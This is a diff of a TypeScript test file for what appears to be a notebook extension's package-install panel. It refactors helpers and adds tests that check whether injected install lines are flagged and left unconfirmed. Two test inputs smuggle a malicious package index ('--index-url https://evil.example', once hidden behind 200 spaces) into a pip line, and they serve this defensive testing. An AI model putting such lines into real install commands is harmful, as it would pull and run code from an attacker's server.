@@ -1,46 +1,5 @@
-import { Signal } from '@lumino/signaling';
-import { vi } from 'vitest';
-
-import { PanelModel } from '../src/model';
-import type { IFacts } from '../src/tokens';
-import { FakeConnection, FakeKernel, facts, job, settled } from './fakes';
-
-/** The document in front, as Lab tells it: its cells are what a test says. */
-function subjectOn(kernel: FakeKernel, ...sources: [id: string, source: string][]): any {
-  const widgets = sources.map(([id, source]) => {
-    const sharedModel = { getSource: () => source, setSource: (now: string) => (source = now) };
-    return { model: { id, type: 'code', sharedModel } };
-  });
-  const sessionContext: any = { isDisposed: false, session: { kernel } };
-  sessionContext.kernelChanged = new Signal<any, any>(sessionContext);
-  sessionContext.changeKernel = vi.fn(async () => {
-    sessionContext.session = { kernel: new FakeKernel('made') };
-    sessionContext.kernelChanged.emit({});
-    return sessionContext.session.kernel;
-  });
-  return { widget: {}, sessionContext, notebook: { isDisposed: false, content: { widgets } } };
-}
-
-function opened(...subjects: any[]) {
-  const tracker: any = { current: subjects[0] };
-  tracker.changed = new Signal<any, any>(tracker);
-  const specs: any = { refreshSpecs: async () => undefined, specs: { kernelspecs: { made: {} } } };
-  const connections = new Map<unknown, FakeConnection>();
-  const model = new PanelModel(tracker, specs, kernel => {
-    connections.set(kernel, new FakeConnection());
-    return connections.get(kernel) as FakeConnection;
-  });
-  const see = async (subject: any, change: Partial<IFacts> = {}) => {
-    tracker.current = subject;
-    tracker.changed.emit(subject);
-    await settled();
-    subject.sessionContext.session.kernel.is('idle');
-    const connection = connections.get(subject.sessionContext.session.kernel) as FakeConnection;
-    await connection?.last?.answer(facts(change));
-    return connection;
-  };
-  return { model, see, connections };
-}
+import { opened, subjectOn } from './documents';
+import { FakeConnection, FakeKernel, job, settled } from './fakes';
 
 const PLANNED: any = { status: 'planned', plan: { changes: [] }, findings: [] };
 
@@ -75,6 +34,37 @@ describe('the model', () => {
     await connection.last.refuse('busy');
     void model.confirm();
     expect(connection.last).toMatchObject({ method: 'install', params: { line: 'numpy' } });
+  });
+
+  it('tells the kernel which lines were typed: those that nobody else put into the box', async () => {
+    const one = subjectOn(new FakeKernel('1'));
+    const { model, see } = opened(one);
+    const connection = await see(one);
+    const hidden = `pandas${' '.repeat(200)}--index-url https://evil.example`;
+    model.offerLine(hidden);
+    void model.submit();
+    expect(connection.last.params).toMatchObject({ line: hidden, taken_over: true });
+    void model.newEnvironment('.venv', false);
+    expect(connection.last.params).toMatchObject({ line: hidden, taken_over: true });
+    model.setLine('pandas');
+    void model.submit();
+    expect(connection.last.params).toMatchObject({ line: 'pandas', taken_over: false });
+    void model.install('numpy');
+    expect(connection.last.params).toMatchObject({ line: 'numpy', taken_over: true });
+  });
+
+  it('answers the question that was asked, and no other', async () => {
+    const one = subjectOn(new FakeKernel('1'));
+    const { model, see } = opened(one);
+    const connection = await see(one);
+    void model.install('-i https://evil.example pandas');
+    await connection.last.answer(job({ id: 'asked' }));
+    const asked = { ...PLANNED, status: 'needs-confirmation' };
+    const result = { outcome: asked, confirm: { taken_over: false } };
+    connection.jobChanged.emit(job({ id: 'asked', state: 'ended', result }));
+    void model.confirm();
+    expect(connection.last.params).toMatchObject({ taken_over: false });
+    expect(connection.last.params.confirmed).toBeUndefined();
   });
 
   it('goes on when the other notebook on the same kernel is closed', async () => {
